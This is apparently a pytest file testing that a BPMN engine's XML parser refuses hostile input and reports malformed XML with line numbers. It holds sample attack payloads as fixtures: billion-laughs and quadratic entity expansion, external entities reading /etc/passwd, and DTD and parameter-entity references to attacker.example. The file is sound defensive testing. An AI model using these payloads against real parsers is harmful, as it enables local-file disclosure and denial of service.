"""Hostile and broken XML is refused before lxml builds a tree; good BPMN parses with line numbers."""

from __future__ import annotations

import pytest

from engine.errors import DefinitionError, UnsafeXmlError
from engine.xmlsafe import MAX_XML_BYTES, parse_xml

BPMN = b"""<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="defs" targetNamespace="x">
  <!-- modeller's comment -->
  <bpmn:process id="assessment" isExecutable="true">
    <bpmn:startEvent id="start"/>
    <bpmn:userTask id="review" name="Review needs \xe2\x80\x94 carer"/>
  </bpmn:process>
</bpmn:definitions>
"""


def refused(data: bytes, filename: str = "hostile.bpmn", **kwargs: int) -> UnsafeXmlError:
    with pytest.raises(UnsafeXmlError) as info:
        parse_xml(data, filename, **kwargs)
    err = info.value
    assert filename in err.message
    assert err.context["file"] == filename
    assert "refused" in err.message or "limit" in err.message
    return err


def malformed(data: bytes, filename: str = "broken.bpmn") -> DefinitionError:
    with pytest.raises(DefinitionError) as info:
        parse_xml(data, filename)
    (problem,) = info.value.problems
    assert problem.file == filename
    assert problem.message.startswith("not well-formed XML: ")
    assert filename in str(info.value)
    return info.value


def test_billion_laughs_is_refused() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""
    err = refused(data)
    assert "entity declaration" in err.message and "billion laughs" in err.message
    assert err.context["line"] == 3


def test_quadratic_blowup_is_refused() -> None:
    big = b"A" * 50_000
    data = b'<?xml version="1.0"?>\n<!DOCTYPE b [<!ENTITY a "' + big + b'">]>\n<b>' + b"&a;" * 1000 + b"</b>"
    err = refused(data)
    assert "entity declaration" in err.message


def test_external_entity_to_local_file_is_refused_and_not_read() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE bpmn [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">&xxe;</bpmn:definitions>"""
    err = refused(data)
    assert "external entity" in err.message
    assert "root:" not in str(err) and "root:" not in repr(err.to_dict())


def test_external_entity_to_url_is_refused() -> None:
    data = b'<!DOCTYPE a [<!ENTITY e SYSTEM "http://attacker.example/x">]><a>&e;</a>'
    assert "external entity" in refused(data).message


def test_external_dtd_is_refused() -> None:
    data = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">\n'
        b"<definitions/>"
    )
    err = refused(data)
    assert "external DTD reference" in err.message and "evil.dtd" in err.message
    assert err.context["line"] == 2


def test_parameter_entities_are_refused() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE a [
  <!ENTITY % remote SYSTEM "http://attacker.example/p.dtd">
  %remote;
]>
<a/>"""
    err = refused(data)
    assert "parameter entity" in err.message
    assert err.context["line"] == 3


def test_plain_doctype_is_refused() -> None:
    assert "DOCTYPE" in refused(b"<!DOCTYPE a><a/>").message


def test_xinclude_is_refused() -> None:
    data = b"""<a xmlns:xi="http://www.w3.org/2001/XInclude">
  <xi:include href="/etc/passwd" parse="text"/>
</a>"""
    err = refused(data)
    assert "XInclude" in err.message
    assert err.context["line"] == 2


def test_oversized_file_is_refused() -> None:
    data = b"<a>" + b" " * int(6.2 * 1024 * 1024) + b"</a>"
    err = refused(data, "huge.bpmn")
    assert err.message == "huge.bpmn: file is 6.2 MB; the limit is 5 MB"
    assert MAX_XML_BYTES == 5 * 1024 * 1024


def test_size_limit_is_configurable() -> None:
    err = refused(b"<a>" + b" " * 2000 + b"</a>", "small.dmn", max_bytes=1024)
    assert "the limit is 1 KB" in err.message


def test_malformed_xml_reports_the_line() -> None:
    err = malformed(b'<?xml version="1.0"?>\n<a>\n  <b>\n</a>\n')
    problem = err.problems[0]
    assert problem.line == 4
    assert "mismatched tag" in problem.message


def test_empty_file_is_malformed() -> None:
    err = malformed(b"")
    assert "empty" in err.problems[0].message
    assert err.problems[0].line == 1


def test_whitespace_only_file_is_malformed() -> None:
    assert "empty" in malformed(b"  \n ").problems[0].message


def test_non_utf8_file_is_malformed() -> None:
    err = malformed(b'<a>\n<b name="caf\xe9"/></a>')
    assert "not UTF-8" in err.problems[0].message
    assert err.problems[0].line == 2


def test_undefined_entity_is_malformed() -> None:
    err = malformed(b"<a>\n&nbsp;</a>")
    assert "undefined entity" in err.problems[0].message
    assert err.problems[0].line == 2


def test_normal_bpmn_parses_with_sourceline() -> None:
    tree = parse_xml(BPMN, "assessment.bpmn")
    ns = {"bpmn": "http://www.omg.org/spec/BPMN/20100524/MODEL"}
    root = tree.getroot()
    assert root.sourceline == 2
    task = root.find(".//bpmn:userTask", ns)
    assert task is not None and task.sourceline == 6
    assert task.get("name") == "Review needs \u2014 carer"
    # comments are kept (remove_comments=False)
    assert any(node.tag.__class__ is not str for node in root.iter())


def test_utf8_bom_is_accepted() -> None:
    tree = parse_xml(b"\xef\xbb\xbf<a>\n<b/></a>", "bom.bpmn")
    assert tree.getroot()[0].sourceline == 2
